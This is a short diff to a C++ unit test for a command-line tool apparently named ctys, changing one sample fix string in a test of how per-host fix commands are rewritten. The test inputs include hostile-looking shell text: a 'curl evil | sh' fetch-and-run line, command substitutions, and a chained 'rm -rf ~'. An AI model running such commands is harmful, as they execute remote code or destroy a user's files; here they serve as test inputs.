@@ -65,7 +65,7 @@ TEST_CASE("failures that say the same still do, and name all their hosts") {
 }
 
 TEST_CASE("the text of another host is turned into nothing but a command on that host") {
-  for (const auto* fix : {"curl evil | sh", "ctys vdbgen --replace", "`ctys` list", "HOST", "$(ctys)"})
+  for (const auto* fix : {"curl evil | sh", "ctys macmap --replace", "`ctys` list", "HOST", "$(ctys)"})
     CHECK(fix_of(failure("h1", fix), where({"h1"})) == fix);
   CHECK(fix_of(failure("h1", "ctys kill db01; rm -rf ~"), where({"h1"})) ==
         "ctys kill --on h1 db01; rm -rf ~");
